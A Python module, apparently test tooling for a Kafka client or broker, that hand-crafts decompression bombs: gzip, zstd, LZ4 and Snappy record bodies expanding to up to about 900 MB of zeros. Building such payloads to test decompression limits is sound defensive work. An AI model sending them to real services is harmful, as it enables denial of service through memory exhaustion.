"""Compressed bodies of one record whose value is zeros without end, made by hand so that no library has to make the zeros first."""

from __future__ import annotations

import struct
import zlib

from .wire import int8, varint

GZIP, SNAPPY, LZ4, ZSTD = 1, 2, 3, 4
MOST = 1_000_000  # bytes of a batch; message.max.bytes is a little more


def record_head(key: bytes | None, zeros: int) -> bytes:
    """A record up to its value, of `zeros` bytes; the one byte behind them, no headers, is a zero as well."""
    rest = int8(0) + varint(0) + varint(0) + (varint(-1) if key is None else varint(len(key)) + key) + varint(zeros)
    return varint(len(rest) + zeros + 1) + rest


def all_bombs(key: bytes | None, megabytes: int) -> dict[int, bytes]:
    return {GZIP: gzip(key, megabytes), SNAPPY: snappy(key, min(megabytes, 18)), LZ4: lz4(key, min(megabytes, 200)), ZSTD: zstd(key, megabytes)}


def gzip(key: bytes | None, megabytes: int) -> bytes:
    zeros = min(megabytes, 900) << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts, block = [packer.compress(record_head(key, zeros))], bytes(1 << 20)
    for _ in range(zeros >> 20):
        parts.append(packer.compress(block))
    parts.append(packer.compress(b"\0") + packer.flush())
    return b"".join(parts)


def zstd(key: bytes | None, megabytes: int) -> bytes:
    """Blocks of one repeated byte: four bytes for 128 KiB."""
    zeros = megabytes << 20
    head = record_head(key, zeros)
    frame = struct.pack("<I", 0xFD2FB528) + bytes([0, 0x38])  # no size, a window of 128 KiB
    frame += struct.pack("<I", len(head) << 3)[:3] + head
    block = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"\0"
    return frame + block * (zeros // (128 << 10)) + struct.pack("<I", 1 << 3 | 1 << 1 | 1)[:3] + b"\0"


def lz4(key: bytes | None, megabytes: int) -> bytes:
    zeros = megabytes << 20
    descriptor = bytes([0x60, 0x70])  # version 1, independent blocks; at most 4 MiB
    frame = struct.pack("<I", 0x184D2204) + descriptor + bytes([xxh32(descriptor) >> 8 & 0xFF])
    head = record_head(key, zeros)
    frame += struct.pack("<I", len(head) | 0x80000000) + head
    left, blocks = zeros + 1, {}
    while left:
        size = min(left, 4 << 20)
        if size not in blocks:
            blocks[size] = lz4_zeros(size)
        frame += struct.pack("<I", len(blocks[size])) + blocks[size]
        left -= size
    return frame + bytes(4)


def lz4_zeros(size: int) -> bytes:
    if size < 64:
        return bytes([size << 4]) + bytes(size) if size < 15 else bytes([0xF0, size - 15]) + bytes(size)
    match = size - 1 - 12 - 4  # one literal before, twelve behind, four in the token
    extended = match - 15
    return bytes([0x1F, 0]) + b"\1\0" + b"\xff" * (extended // 255) + bytes([extended % 255]) + bytes([12 << 4]) + bytes(12)


def snappy(key: bytes | None, megabytes: int) -> bytes:
    """Copies of 64 bytes in three."""
    zeros = megabytes << 20
    head = record_head(key, zeros)
    size, length = len(head) + zeros + 1, b""
    while size >= 0x80:
        length, size = length + bytes([size & 0x7F | 0x80]), size >> 7
    literal = head + b"\0"
    return length + bytes([size]) + bytes([len(literal) - 1 << 2]) + literal + (bytes([63 << 2 | 2]) + b"\1\0") * (zeros // 64)


def xxh32(data: bytes) -> int:
    """Of fewer than four bytes."""
    assert len(data) < 4
    mask, hashed = 0xFFFFFFFF, (374761393 + len(data)) & 0xFFFFFFFF
    for byte in data:
        hashed = hashed + byte * 374761393 & mask
        hashed = ((hashed << 11 | hashed >> 21) & mask) * 2654435761 & mask
    hashed = (hashed ^ hashed >> 15) * 2246822519 & mask
    hashed = (hashed ^ hashed >> 13) * 3266489917 & mask
    return hashed ^ hashed >> 16
